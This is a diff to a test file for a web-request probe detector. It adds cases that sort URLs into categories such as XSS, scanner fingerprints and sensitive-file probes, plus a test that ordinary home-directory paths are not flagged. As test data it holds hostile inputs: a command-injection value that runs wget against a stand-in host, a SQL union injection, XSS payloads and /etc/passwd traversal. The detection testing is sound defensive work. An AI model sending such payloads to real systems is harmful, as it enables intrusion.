@@ -64,6 +64,18 @@ def test_script_pages_need_level_four() -> None:
         ("/?c=;wget%20http://x/a.sh", "command_injection"),
         ("/?id=1%20union%20select%20null,null", "sql_injection"),
         ("/?q=%3Cscript%3E", "xss"),
+        ("/?q=style%3Dx:expression(alert(1))", "xss"),
+        ("/?q=%3Canimate%20attributeName=onunload%20to=alert(1)%3E", "xss"),
+        ("/?=PHPE9568F34-D428-11d2-A769-00AA001ACF42", "scanner"),
+        ("/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "scanner"),
+        ("/~nobody", "scanner"),
+        ("/images/logo.gif~", "sensitive_files"),
+        ("/perl.exe?-v", "scanner"),
+        ("/php-cgi.exe", "scanner"),
+        ("/~postmaster/", "scanner"),
+        ("/level/16/exec/show/config", "cve_exploit"),
+        ("/config/environments/production.rb", "sensitive_files"),
+        ("/app/controllers/application_controller.rb", "sensitive_files"),
     ],
 )
 def test_each_category_names_its_probes(url: str, category: str) -> None:
@@ -75,6 +87,18 @@ def test_each_category_names_its_probes(url: str, category: str) -> None:
 def test_case_and_encodings_hide_nothing() -> None:
     for url in ("/WP-LOGIN.PHP", "/%2Eenv", "/.%67it/config", "/%252e%252e/etc/passwd", "/a%2F..%2F..%2Fb"):
         assert DETECTOR.detect(facts_of(url)) is not None, url
+
+
+def test_peoples_home_directories_and_ruby_files_of_other_folders_are_not_probes() -> None:
+    for url in (
+        "/~bob",
+        "/~alice/papers/",
+        "/~www-team",
+        "/gems/foo/lib/foo.rb",
+        "/docs/level/1/executive",
+        "/downloads/setup.exe",
+    ):
+        assert DETECTOR.detect(facts_of(url)) is None, url
 
 
 def test_well_known_is_not_a_dotfile() -> None:
